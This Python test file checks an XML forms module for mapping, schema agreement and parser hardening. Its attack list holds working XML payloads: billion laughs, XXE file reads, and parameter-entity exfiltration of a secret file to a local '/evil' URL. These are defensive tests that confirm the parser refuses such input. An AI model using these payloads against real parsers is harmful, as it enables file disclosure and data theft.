"""XML forms: lossless mapping, hardened parsing, XSD engines and XSD / JSON Schema agreement."""

from __future__ import annotations

import copy
import itertools
import json
import os
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import xmlschema
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree

from broker import xmlforms
from broker.errors import ParseError, SchemaError
from broker.forms import MODELS
from broker.schema import Catalogue, catalogue
from tests.forms.cases import Case, all_cases, template

XML_TYPES = sorted(xmlforms.XML_TYPES)
CASES = all_cases()
XML_CASES = [c for c in CASES if c.fmt == "xml"]
VALID_XML = [c for c in XML_CASES if not c.expected]
VALID_JSON = [c for c in CASES if c.fmt == "json" and not c.expected and c.type in XML_TYPES]
ECODEX = Path(__file__).resolve().parents[3] / "shared" / "data" / "ecodex"
A, B, C = "eu.eio.a", "eu.eio.b", "eu.eio.c"


def _codes(problems: Any) -> list[tuple[str, str]]:
    return sorted((p.code, p.pointer) for p in problems)


# -- the catalogue and the mapping ------------------------------------------------------


def test_catalogue_marks_the_xml_types() -> None:
    assert {t.name for t in catalogue().types() if t.xml} == set(XML_TYPES)
    assert set(XML_TYPES) == {A, B, C}


@pytest.mark.parametrize("form_type", XML_TYPES)
def test_template_round_trip(form_type: str) -> None:
    raw = catalogue().template(form_type, "xml")
    assert raw.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n')
    value = xmlforms.decode(form_type, raw)
    assert value == template(form_type)
    assert xmlforms.encode(form_type, value) == raw
    from_xml = catalogue().parse(form_type, raw, "xml")
    from_json = catalogue().parse(form_type, catalogue().template(form_type))
    assert from_xml == from_json


@pytest.mark.parametrize("case", VALID_XML, ids=lambda c: c.id)
def test_xml_to_dict_to_xml_to_dict(case: Case) -> None:
    value = xmlforms.decode(case.type, case.raw)
    again = xmlforms.encode(case.type, value)
    assert xmlforms.decode(case.type, again) == value
    assert catalogue().parse(case.type, case.raw, "xml") == catalogue().parse(
        case.type, again, "xml"
    )


@pytest.mark.parametrize("case", VALID_JSON, ids=lambda c: c.id)
def test_every_valid_json_case_survives_xml(case: Case) -> None:
    doc = json.loads(case.raw)
    raw = xmlforms.encode(case.type, doc)
    assert xmlforms.decode(case.type, raw) == doc
    assert catalogue().parse(case.type, raw, "xml") == catalogue().parse(case.type, case.raw)


def _xml_char(char: str) -> bool:
    # XML 1.0 Char production (surrogates are excluded by the strategy's categories).
    code = ord(char)
    return code in (0x9, 0xA, 0xD) or 0x20 <= code <= 0xFFFD or code >= 0x10000


_TEXT = st.text(st.characters(exclude_categories=["Cs"]).filter(_xml_char), min_size=1, max_size=80)
_LINE = st.text(
    st.characters(exclude_categories=["Cs"], exclude_characters="\r\n").filter(_xml_char),
    min_size=1,
    max_size=80,
)


@settings(
    max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
)
@given(summary=_TEXT, name=_LINE, reason=_TEXT, contact=_LINE)
def test_any_text_round_trips(summary: str, name: str, reason: str, contact: str) -> None:
    """Whitespace, markup characters, CR, astral characters: text survives exactly."""
    doc = template(A)
    doc["grounds"]["offence"]["summary_of_facts"] = summary
    doc["persons"][1]["name"] = name
    doc["additional_requirements"]["remote_hearing"]["videoconference"]["reasons"] = reason
    doc["issuing_authority"]["authority"]["contact"]["name"] = contact
    raw = xmlforms.encode(A, doc)
    assert xmlforms.decode(A, raw) == doc
    assert catalogue().parse(A, raw, "xml") == catalogue().parse(A, json.dumps(doc).encode())


@pytest.mark.parametrize(
    ("change", "pointer", "message"),
    [
        (lambda d: d.update(section_z=1), "/section_z", "unknown member"),
        (lambda d: d["urgency"].update(urgent="yes"), "/urgency/urgent", "must be of type boolean"),
        (lambda d: d["measures"].__setitem__(0, "x"), "/measures/0", "must be of type object"),
        (lambda d: d.update(measures={}), "/measures", "must be of type array"),
        (lambda d: d.update(language=1), "/language", "must be of type string"),
        (
            lambda d: d["persons"][0]["identifiers"][2].update(port=True),
            "/persons/0/identifiers/2/port",
            "must be of type integer",
        ),
        (
            lambda d: d["grounds"].update(maximum_penalty="ten\x00years"),
            "/grounds/maximum_penalty",
            "contains characters that XML cannot carry",
        ),
    ],
)
def test_encode_refuses_what_the_xml_form_cannot_hold(
    change: Callable[[dict[str, Any]], None], pointer: str, message: str
) -> None:
    doc = template(A)
    change(doc)
    with pytest.raises(SchemaError) as info:
        xmlforms.encode(A, doc)
    assert [(p.pointer, p.message) for p in info.value.problems] == [(pointer, message)]


def test_a_type_without_xml_form() -> None:
    art29 = "coe.art29.preservation"
    with pytest.raises(ParseError):
        xmlforms.decode(art29, b"<x/>")
    with pytest.raises(ParseError):
        xmlforms.encode(art29, template(art29))
    assert _codes(catalogue().check(art29, b"<x/>", "xml")) == [("E_PARSE", "")]


def test_size_limit_comes_before_xml_parsing() -> None:
    raw = catalogue().template(B, "xml")
    assert _codes(Catalogue(max_bytes=100).check(B, raw, "xml")) == [("E_TOO_LARGE", "")]


# -- hardening: attacks, each with its exact verdict ----------------------------------------


def _body(form_type: str) -> bytes:
    """The template's XML without its declaration (a DOCTYPE goes in front of it)."""
    return catalogue().template(form_type, "xml").split(b"\n", 1)[1]


def _with_text(text: bytes) -> bytes:
    raw = catalogue().template(B, "xml")
    return raw.replace(b"<other_information>The", b"<other_information>" + text + b" The", 1)


def _billion_laughs() -> bytes:
    """A DOCTYPE whose entity ``i`` expands to 10**9 characters."""
    names = "abcdefghi"
    declarations = ['<!ENTITY a "aaaaaaaaaa">'] + [
        f'<!ENTITY {name} "{f"&{previous};" * 10}">' for previous, name in itertools.pairwise(names)
    ]
    return ("<!DOCTYPE r [" + "".join(declarations) + "]>\n").encode()


@pytest.fixture
def listener() -> Iterator[tuple[socket.socket, str]]:
    """A local TCP server that no parser may ever connect to."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.setblocking(False)
    yield server, f"http://127.0.0.1:{server.getsockname()[1]}/evil"
    server.close()


@pytest.fixture
def secret_file(tmp_path: Path) -> tuple[Path, str]:
    secret = "TOP-SECRET-7f3a"  # noqa: S105 - a marker to look for, not a password
    path = tmp_path / "secret.txt"
    path.write_text(secret)
    return path, secret


#: (name, the type the document claims to be, builder(listener URL, secret file path), verdict)
ATTACKS: list[tuple[str, str, Callable[[str, str], bytes], list[tuple[str, str]]]] = [
    (
        "billion-laughs",
        B,
        lambda url, path: _billion_laughs() + _with_text(b"&i;").split(b"\n", 1)[1],
        [("E_PARSE", "")],
    ),
    (
        "quadratic-blowup",
        B,
        lambda url, path: (
            b'<!DOCTYPE r [<!ENTITY x "'
            + b"x" * 50_000
            + b'">]>\n'
            + _with_text(b"&x;" * 100).split(b"\n", 1)[1]
        ),
        [("E_PARSE", "")],
    ),
    (
        "xxe-file",
        B,
        lambda url, path: (
            b'<!DOCTYPE r [<!ENTITY x SYSTEM "file://'
            + path.encode()
            + b'">]>\n'
            + _with_text(b"&x;").split(b"\n", 1)[1]
        ),
        [("E_PARSE", "")],
    ),
    (
        "xxe-network",
        B,
        lambda url, path: (
            b'<!DOCTYPE r [<!ENTITY x SYSTEM "'
            + url.encode()
            + b'">]>\n'
            + _with_text(b"&x;").split(b"\n", 1)[1]
        ),
        [("E_PARSE", "")],
    ),
    (
        "external-dtd",
        B,
        lambda url, path: b'<!DOCTYPE r SYSTEM "' + url.encode() + b'">\n' + _body(B),
        [("E_PARSE", "")],
    ),
    (
        "external-dtd-file",
        B,
        lambda url, path: b'<!DOCTYPE r SYSTEM "file://' + path.encode() + b'">\n' + _body(B),
        [("E_PARSE", "")],
    ),
    (
        "parameter-entity",
        B,
        lambda url, path: (
            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "' + url.encode() + b'"> %p;]>\n' + _body(B)
        ),
        [("E_PARSE", "")],
    ),
    (
        "parameter-entity-exfiltration",
        B,
        lambda url, path: (
            b'<!DOCTYPE r [<!ENTITY % f SYSTEM "file://' + path.encode() + b'">'
            b"<!ENTITY % p \"<!ENTITY &#x25; e SYSTEM '"
            + url.encode()
            + b"?%f;'>\"> %p; %e;]>\n"
            + _body(B)
        ),
        [("E_PARSE", "")],
    ),
    (
        "doctype-alone",
        B,
        lambda url, path: b"<!DOCTYPE eio_receipt_confirmation>\n" + _body(B),
        [("E_PARSE", "")],
    ),
    (
        "processing-instruction",
        B,
        lambda url, path: (
            b'<?xml-stylesheet type="text/xsl" href="' + url.encode() + b'"?>\n' + _body(B)
        ),
        [("E_PARSE", "")],
    ),
    ("malformed", B, lambda url, path: _body(B)[:-30], [("E_PARSE", "")]),
    ("not-utf8", B, lambda url, path: _with_text(b"\xff\xfe"), [("E_PARSE", "")]),
    (
        "xinclude",
        B,
        lambda url, path: _body(B).replace(
            b"<received_on>",
            b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://'
            + path.encode()
            + b'"/><received_on>',
            1,
        ),
        [("E_SCHEMA", "/include")],
    ),
    (
        "schema-location-hint",
        B,
        lambda url, path: _body(B).replace(
            b'xmlns="urn:evb:xml:eu.eio.b:1">',
            b'xmlns="urn:evb:xml:eu.eio.b:1" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
            b' xsi:schemaLocation="urn:evb:xml:eu.eio.b:1 ' + url.encode() + b'">',
            1,
        ),
        [],
    ),
    (
        "deep-nesting",
        B,
        lambda url, path: _body(B).replace(
            b"<received_on>", b"<x>" * 40 + b"</x>" * 40 + b"<received_on>", 1
        ),
        [("E_PARSE", "")],
    ),
    (
        "excessive-depth",
        B,
        lambda url, path: b"<a>" * 10_000 + b"</a>" * 10_000,
        [("E_PARSE", "")],
    ),
    (
        "wrong-namespace",
        B,
        lambda url, path: _body(B).replace(b"urn:evb:xml:eu.eio.b:1", b"urn:evb:xml:eu.eio.c:1"),
        [("E_SCHEMA", "")],
    ),
    ("wrong-root", B, lambda url, path: _body(C), [("E_SCHEMA", "")]),
    (
        "unknown-element",
        B,
        lambda url, path: _body(B).replace(b"<received_on>", b"<urgent>true</urgent><received_on>"),
        [("E_SCHEMA", "/urgent")],
    ),
    (
        "missing-element",
        B,
        lambda url, path: _body(B).replace(b"<received_on>2026-04-21</received_on>", b""),
        [("E_SCHEMA", "/received_on")],
    ),
    (
        "bad-enum",
        C,
        lambda url, path: _body(C).replace(b">ongoing<", b">paused<"),
        [("E_SCHEMA", "/interception_status")],
    ),
    (
        "bad-date-time",
        C,
        lambda url, path: _body(C).replace(b"2026-04-21T09:30:00+02:00", b"2026-04-21T09:30+02:00"),
        [("E_SCHEMA", "/signed_at")],
    ),
]


@pytest.mark.parametrize(
    ("name", "form_type", "build", "expected"), ATTACKS, ids=[a[0] for a in ATTACKS]
)
def test_attack(
    name: str,
    form_type: str,
    build: Callable[[str, str], bytes],
    expected: list[tuple[str, str]],
    listener: tuple[socket.socket, str],
    secret_file: tuple[Path, str],
) -> None:
    server, url = listener
    path, secret = secret_file
    raw = build(url, str(path))
    problems = catalogue().check(form_type, raw, "xml")
    assert _codes(problems) == expected
    if not {"E_PARSE"} & {code for code, _ in expected}:
        root = xmlforms.parse_xml(raw)
        reference = xmlforms.reference_schema(form_type).is_valid(root.getroottree())
        assert xmlforms.fast_verdict(form_type, root) == reference
    for problem in problems:
        assert secret not in problem.message
        assert "lol" not in problem.message
    # Nothing was fetched: the listener never saw a connection.
    with pytest.raises(BlockingIOError):
        server.accept()


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!DOCTYPE r SYSTEM "file://{path}">',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "file://{path}"> %p;]>',
        b'<!DOCTYPE r [<!ENTITY x SYSTEM "file://{path}">]>',
    ],
    ids=["external-dtd", "parameter-entity", "external-entity"],
)
def test_no_file_is_ever_opened(declaration: bytes, tmp_path: Path) -> None:
    """libxml2 asks for external DTDs even with load_dtd=False; the resolver answers.

    The "file" is a FIFO: a writer waiting on it is released only if a reader opens it,
    so the test sees whether the parser opened the file at all.
    """
    fifo = tmp_path / "dtd.fifo"
    os.mkfifo(fifo)
    opened = threading.Event()

    def writer() -> None:
        with fifo.open("wb") as pipe:  # blocks until a reader opens the FIFO
            opened.set()
            pipe.write(b'<!ENTITY x "leaked">')

    thread = threading.Thread(target=writer, daemon=True)
    thread.start()
    raw = declaration.replace(b"{path}", str(fifo).encode()) + b"\n" + _body(B)
    try:
        assert _codes(catalogue().check(B, raw, "xml")) == [("E_PARSE", "")]
        assert not opened.wait(0.2)
    finally:
        # Release the writer: open the FIFO for reading ourselves.
        fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        thread.join(5)
        os.close(fd)


def test_decoded_text_never_holds_a_file(secret_file: tuple[Path, str]) -> None:
    path, secret = secret_file
    raw = _body(B).replace(
        b"<received_on>",
        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file://'
        + str(path).encode()
        + b'"/><received_on>',
    )
    root = xmlforms.parse_xml(raw)
    assert secret not in etree.tostring(root).decode()


def test_huge_text_node_is_bounded() -> None:
    # Beyond libxml2's 10 MB text limit without huge_tree (no size limit in decode).
    raw = _with_text(b"x" * 10_000_001)
    with pytest.raises(ParseError):
        xmlforms.decode(B, raw)


def test_parse_errors_are_translated_and_chained() -> None:
    with pytest.raises(ParseError) as info:
        xmlforms.decode(B, b"<eio_receipt_confirmation><oops></eio_receipt_confirmation>")
    assert isinstance(info.value.__cause__, etree.XMLSyntaxError)
    assert "oops" not in str(info.value)


@pytest.mark.parametrize(
    ("old", "new", "pointer"),
    [
        (b">ongoing<", b">SECRET-Jean-Exemple<", "/interception_status"),
        (b"<signed_at>2026", b"<signed_at>SECRET-Jean-Exemple 2026", "/signed_at"),
        (b"<name>Exemple</name>", b"<name>SECRET-Jean-Exemple\n</name>", "/persons/0/name"),
        (b"<targets>", b"<targets>SECRET-Jean-Exemple", "/targets"),
    ],
)
def test_messages_never_repeat_the_value(old: bytes, new: bytes, pointer: str) -> None:
    raw = catalogue().template(C, "xml").replace(old, new, 1)
    with pytest.raises(SchemaError) as info:
        xmlforms.decode(C, raw)
    assert [p.pointer for p in info.value.problems] == [pointer]
    assert all("SECRET" not in p.message for p in info.value.problems)


# -- the two XSD engines agree -----------------------------------------------------------


@pytest.mark.parametrize("case", XML_CASES, ids=lambda c: c.id)
def test_fast_engine_agrees_with_xmlschema(case: Case) -> None:
    """lxml (libxml2) may give the verdict only because it agrees with xmlschema."""
    try:
        root = xmlforms.parse_xml(case.raw)
    except ParseError:
        assert {code for code, _ in case.expected} == {"E_PARSE"}
        return
    if case.type not in XML_TYPES:
        return
    fast = xmlforms.fast_verdict(case.type, root)
    reference = xmlforms.reference_schema(case.type).is_valid(root.getroottree())
    assert fast == reference
    assert reference == (not xmlforms.reference_problems(case.type, root))


def test_every_xml_type_has_xml_cases() -> None:
    for form_type in XML_TYPES:
        mine = [c for c in XML_CASES if c.type == form_type]
        assert any(not c.expected for c in mine)
        assert any(c.expected for c in mine)


# -- the XSD says what the JSON Schema says ------------------------------------------------


def _resolve(node: dict[str, Any], schema: dict[str, Any]) -> dict[str, Any]:
    while "$ref" in node:
        node = schema["$defs"][node["$ref"].removeprefix("#/$defs/")]
    return node


def _builtin(xsd_type: Any) -> str:
    while type(xsd_type).__name__ != "XsdAtomicBuiltin":
        xsd_type = xsd_type.base_type
    return str(xsd_type.local_name)


def _agree(node: dict[str, Any], element: Any, schema: dict[str, Any], path: str) -> Iterator[str]:
    """Yield every difference between a JSON Schema node and an XSD element declaration."""
    node = _resolve(node, schema)
    xsd = element.type
    if node.get("type") == "object":
        children = list(xsd.content.iter_elements())
        names = [c.local_name for c in children]
        if names != list(node["properties"]):
            yield f"{path}: members {names} != {list(node['properties'])}"
            return
        required = set(node.get("required", []))
        for child in children:
            wanted = 1 if child.local_name in required else 0
            if (child.min_occurs, child.max_occurs) != (wanted, 1):
                yield f"{path}/{child.local_name}: occurs {child.min_occurs}..{child.max_occurs}"
            yield from _agree(
                node["properties"][child.local_name], child, schema, f"{path}/{child.local_name}"
            )
        return
    if node.get("type") == "array":
        items = list(xsd.content.iter_elements())
        if [i.local_name for i in items] != ["item"]:
            yield f"{path}: not a wrapper of <item>"
            return
        bounds = (node.get("minItems", 0), node.get("maxItems"))
        if (items[0].min_occurs, items[0].max_occurs) != bounds:
            yield f"{path}: items {items[0].min_occurs}..{items[0].max_occurs} != {bounds}"
        yield from _agree(node["items"], items[0], schema, path + "/item")
        return
    if not xsd.is_simple():
        yield f"{path}: not a simple type"
        return
    builtin = _builtin(xsd)
    if node.get("type") == "boolean" or isinstance(node.get("const"), bool):
        if builtin != "boolean":
            yield f"{path}: {builtin} is not xs:boolean"
    elif node.get("type") == "integer":
        if builtin != "integer" or (xsd.min_value, xsd.max_value) != (
            node.get("minimum"),
            node.get("maximum"),
        ):
            yield f"{path}: integer bounds differ"
    elif "enum" in node:
        if builtin != "string" or list(xsd.enumeration or []) != node["enum"]:
            yield f"{path}: enumeration differs"
    else:
        primitive = {"date": "date", "date-time": "dateTime"}.get(node.get("format", ""), "string")
        if builtin != primitive:
            yield f"{path}: {builtin} is not xs:{primitive}"
        if (xsd.min_length, xsd.max_length) != (node.get("minLength"), node.get("maxLength")):
            yield f"{path}: lengths {xsd.min_length}..{xsd.max_length}"
        if ("pattern" in node or "format" in node) and not xsd.patterns:
            yield f"{path}: no pattern for a constrained string"


@pytest.mark.parametrize("form_type", XML_TYPES)
def test_xsd_agrees_with_json_schema(form_type: str) -> None:
    schema = catalogue().schema(form_type)
    xsd = xmlforms.reference_schema(form_type)
    assert xsd.target_namespace == xmlforms.namespace(form_type)
    assert list(xsd.elements) == [xmlforms.root_element(form_type)]
    root = xsd.elements[xmlforms.root_element(form_type)]
    assert list(_agree(schema, root, schema, "")) == []


@pytest.mark.parametrize("form_type", XML_TYPES)
def test_the_check_itself_sees_a_difference(form_type: str) -> None:
    """A test that cannot fail is a defect: a changed JSON Schema must show up."""
    schema = copy.deepcopy(catalogue().schema(form_type))
    schema["required"] = schema["required"][1:]
    schema["properties"]["language_of_form"] = {"type": "string"}
    root = xmlforms.reference_schema(form_type).elements[xmlforms.root_element(form_type)]
    assert list(_agree(schema, root, schema, ""))


def test_every_model_with_xml_form_is_in_the_catalogue() -> None:
    assert set(XML_TYPES) <= set(MODELS)


# -- real third-party XML, read in place (never copied into the repository) ---------------


def _third_party(relative: str) -> Path:
    path = ECODEX / relative
    if not path.is_file():
        pytest.skip(f"third-party data not available: {path}")
    return path


def _third_party_documents() -> list[Path]:
    return sorted(ECODEX.rglob("*.xml")) if ECODEX.is_dir() else []


@pytest.mark.parametrize("path", _third_party_documents(), ids=lambda p: p.name)
def test_hardened_parser_accepts_real_documents(path: Path) -> None:
    root = xmlforms.parse_xml(path.read_bytes())
    assert isinstance(root.tag, str)


def test_a_foreign_form_is_not_an_eio() -> None:
    # EPO Form A from the e-CODEX connector: well-formed, but not one of our forms.
    path = _third_party(
        "ecodex-connector/domibusConnectorSecurityToolkit/src/test/resources/examples/Form_A.xml"
    )
    assert _codes(catalogue().check(A, path.read_bytes(), "xml")) == [("E_SCHEMA", "")]


def test_engines_agree_on_a_real_schema() -> None:
    folder = "domibus/Domibus-MSH/src/test/resources/eu/domibus/submission/validation/"
    xsd_raw = _third_party(folder + "payload.xsd").read_bytes()
    fast = etree.XMLSchema(xmlforms.parse_xml(xsd_raw))
    reference = xmlschema.XMLSchema10(xsd_raw.decode("utf-8"), allow="none")
    verdicts: dict[str, bool] = {}
    for name in ("validPayload.xml", "invalidPayload.xml"):
        tree = xmlforms.parse_xml(_third_party(folder + name).read_bytes()).getroottree()
        assert fast.validate(tree) == reference.is_valid(tree)
        verdicts[name] = reference.is_valid(tree)
    assert verdicts == {"validPayload.xml": True, "invalidPayload.xml": False}


def test_a_schema_import_is_never_fetched(listener: tuple[socket.socket, str]) -> None:
    # The e-CODEX trust-token XSD imports xmldsig from the W3C web site. Parsed with
    # the hardened parser, the import resolves to nothing instead of going online.
    server, _url = listener
    path = _third_party(
        "ecodex-connector/domibusConnectorSecurityToolkit/src/main/resources/schemas/TrustOkToken.xsd"
    )
    with pytest.raises(etree.XMLSchemaParseError):
        etree.XMLSchema(xmlforms.parse_xml(path.read_bytes()))
    with pytest.raises(BlockingIOError):
        server.accept()
